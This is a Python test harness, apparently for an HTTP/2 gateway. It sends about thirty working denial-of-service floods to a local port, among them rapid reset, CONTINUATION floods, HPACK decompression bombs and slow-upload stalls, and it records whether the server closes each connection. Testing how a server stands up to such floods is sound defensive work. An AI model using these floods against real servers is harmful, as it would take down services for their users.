"""Floods of HTTP/2, each by several attackers that come again when they are closed.

`python3 h2_attackers.py PORT` reads lines of an index into FLOODS and seconds, and answers each with a line of JSON:
what the attack came to. A process of its own, so that it costs the victims nothing."""

import json
import socket
import sys
import threading
import time

from h2_rules import head, number, reset_frame, setting, upload
from h2_wire import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, PRIORITY, SETTINGS,
                     WINDOW_UPDATE, frame, literal, request_block)

ATTACKERS = 4
GREETING = PREFACE + frame(SETTINGS)
PIECE = 32 * 1024
ENDLESS = 1 << 30


def again(frames):
  """The same frames in pieces of about PIECE bytes, without end."""
  piece = frames * max(1, PIECE // len(frames))
  return lambda: (piece for _ in range(ENDLESS))


def streams(make, first=1, group=100, count=4000):
  """What `make(stream)` says for one stream after another, in groups; made before, so that it costs the victims
  nothing."""
  pieces = [b"".join(make(stream) for stream in range(begin, begin + 2 * group, 2))
            for begin in range(first, 2 * count, 2 * group)]
  return lambda: pieces


def attack_head(stream, *fields, **pseudo):
  return head(stream, *fields, path="/attack", **pseudo)


def upload_then(frames):
  return GREETING + upload(1, path="/attack/held"), again(frames)


def bomb(field):
  """Sections whose every byte stands for a field of 4,000 bytes."""
  entry = b"\x40" + literal(field, "v" * 4000)[1:]
  first = GREETING + frame(HEADERS, END_HEADERS | END_STREAM, 1, request_block(path="/attack") + entry)
  bytes_of_it = request_block(path="/attack") + b"\xbe" * 15_000
  return first, streams(lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, bytes_of_it), first=3, group=2,
                        count=200)


def storm(stream):
  """A hundred streams, reset in reverse."""
  group = range(stream, stream + 200, 2)
  return b"".join(attack_head(each) for each in group) + b"".join(reset_frame(each) for each in reversed(group))


def window_pieces():
  """A large answer in single bytes."""
  yield head(1, path="/attack/large")
  for _ in range(ENDLESS):
    yield frame(WINDOW_UPDATE, 0, 1, number(1)) * 16


def no_window():
  yield b"".join(head(stream, path="/attack/large") for stream in range(1, 201, 2))


def compression_errors():
  yield frame(HEADERS, END_HEADERS | END_STREAM, 1, request_block() + b"\x3f\xff\xff\xff\x0f")


def slow_sections():
  yield head(1, flags=END_STREAM, path="/attack")
  for _ in range(ENDLESS):
    yield frame(CONTINUATION, 0, 1, b"")[:4]


def slow_upload():
  yield b"".join(upload(stream, ("content-length", "1000"), path="/attack/held") for stream in range(1, 201, 2))
  for _ in range(ENDLESS):
    yield frame(DATA, 0, 1, b"x")


STORM = [storm(begin) for begin in range(1, 8001, 200)]
EMPTY, PONG = frame(DATA, 0, 1), frame(PING, payload=b"12345678")
SMALL_SECTION = GREETING + head(1, flags=END_STREAM, path="/attack")

# (where it belongs, what it is, (greeting, frames), whether its connections must be closed)
FLOODS = (
    ("2.1", "pings", (GREETING, again(PONG)), True),
    ("2.2", "settings", (GREETING, again(frame(SETTINGS))), True),
    ("2.2", "settings of 2,400 entries", (GREETING, again(frame(SETTINGS, payload=b"\0\4\0\0\xff\xff" * 2400))), True),
    ("2.3", "heads that are reset", (GREETING, streams(lambda at: attack_head(at, ("X-Upper", "1")))), True),
    ("2.4", "rapid reset", (GREETING, streams(lambda at: attack_head(at) + reset_frame(at))), True),
    ("2.5", "resets by windows of 0", (GREETING, streams(
        lambda at: attack_head(at) + frame(WINDOW_UPDATE, 0, at, number(0)))), True),
    ("2.5", "resets by windows that overflow", (GREETING, streams(
        lambda at: attack_head(at) + frame(WINDOW_UPDATE, 0, at, number((1 << 31) - 1)))), True),
    ("2.5", "resets by data behind the end", (GREETING, streams(
        lambda at: attack_head(at) + frame(DATA, END_STREAM, at, b"x"))), True),
    ("2.5", "resets by streams that depend on themselves", (GREETING, streams(
        lambda at: attack_head(at) + frame(PRIORITY, 0, at, number(at) + b"\1"))), True),
    ("2.5", "resets by lengths", (GREETING, streams(
        lambda at: upload(at, ("content-length", "1"), path="/attack") + frame(DATA, END_STREAM, at, b"xy"))), True),
    ("2.6", "single bytes of a window", (PREFACE + setting((4, 1)), window_pieces), True),
    ("2.7", "windows that never open", (PREFACE + setting((4, 0)), no_window), False),
    ("2.8", "empty data", upload_then(EMPTY), True),
    ("2.8", "empty data of padding alone", upload_then(frame(DATA, 8, 1, b"\3\0\0\0")), True),
    ("2.8", "empty continuations", (SMALL_SECTION, again(frame(CONTINUATION, 0, 1))), True),
    ("2.9", "priorities", (GREETING, again(frame(PRIORITY, 0, 3, b"\0\0\0\1\x10"))), True),
    ("2.10", "windows of the connection", (GREETING, again(frame(WINDOW_UPDATE, 0, 0, number(1)))), True),
    ("2.10", "windows of a stream", upload_then(frame(WINDOW_UPDATE, 0, 1, number(1))), True),
    ("2.11", "continuations of a byte", (SMALL_SECTION, again(frame(CONTINUATION, 0, 1, b"\x82"))), True),
    ("2.11", "continuations of 16 KiB", (SMALL_SECTION, again(frame(CONTINUATION, 0, 1, literal("a", "b" * 16_300)))),
     True),
    ("2.12", "small bytes that stand for large fields", bomb("x-bomb"), True),
    ("2.12", "small bytes that stand for cookies", bomb("cookie"), True),
    ("2.13", "sections that are no HPACK", (GREETING, compression_errors), True),
    ("2.14", "storms of streams", (GREETING, lambda: STORM), True),
    # Dropped, whatever they are: RFC 9113 §5.1. What they cost is their bytes.
    ("2.14", "heads on streams that are closed", (GREETING + upload(1, path="/attack/held") + reset_frame(1),
                                                    again(head(1, path="/attack"))), False),
    ("2.14", "data on streams that are closed",
     (GREETING + upload(1, path="/attack/held") + reset_frame(1), again(EMPTY)), False),
    ("2.15", "tables that grow and shrink", (GREETING, streams(
        lambda at: setting((1, 0)) + setting((1, 0xffffffff)) + head(at, path="/nowhere"))), True),
    ("2.17", "sections that never end", (GREETING, slow_sections), False),
    ("2.17", "uploads that never end", (GREETING, slow_upload), False),
    ("4.1", "frames that nobody knows", (GREETING, again(frame(0x16, 0, 0))), False),
)


class Attack:
  """Attackers send `frames()` over and over on one connection, and connect again once it is closed; the socket is
  never read. `first` is what each connection begins with."""

  def __init__(self, port, seconds, first, frames, pause):
    self.port, self.frames, self.first, self.pause = port, frames, first, pause
    self.until = time.monotonic() + seconds
    self.bytes = 0
    self.closed = 0
    self.lock = threading.Lock()
    self.threads = [threading.Thread(target=self.run, daemon=True) for _ in range(ATTACKERS)]
    for thread in self.threads:
      thread.start()

  def run(self):
    while time.monotonic() < self.until:
      with socket.create_connection(("127.0.0.1", self.port), timeout=1.0) as connection:
        ended = self.pour(connection)
      with self.lock:
        self.closed += ended

  def pour(self, connection):
    """Whether the gateway closed the connection."""
    try:
      connection.sendall(self.first)
      for piece in self.frames():
        connection.sendall(piece)
        with self.lock:
          self.bytes += len(piece)
        if time.monotonic() >= self.until:
          return False
        if self.pause:
          time.sleep(self.pause)
      # All that one connection may say: what comes is read to its end.
      connection.settimeout(max(0.01, self.until - time.monotonic()))
      while connection.recv(65536):
        pass
      return True
    except TimeoutError:
      return False
    except OSError:
      return True

  def join(self):
    for thread in self.threads:
      thread.join()


def main(port):
  for line in sys.stdin:
    index, seconds = line.split()
    _, what, (first, frames), _ = FLOODS[int(index)]
    attack = Attack(int(port), float(seconds), first, frames, 0.02 if "never end" in what else 0.0)
    attack.join()
    print(json.dumps({"bytes": attack.bytes, "closed": attack.closed}), flush=True)


if __name__ == "__main__":
  main(*sys.argv[1:])
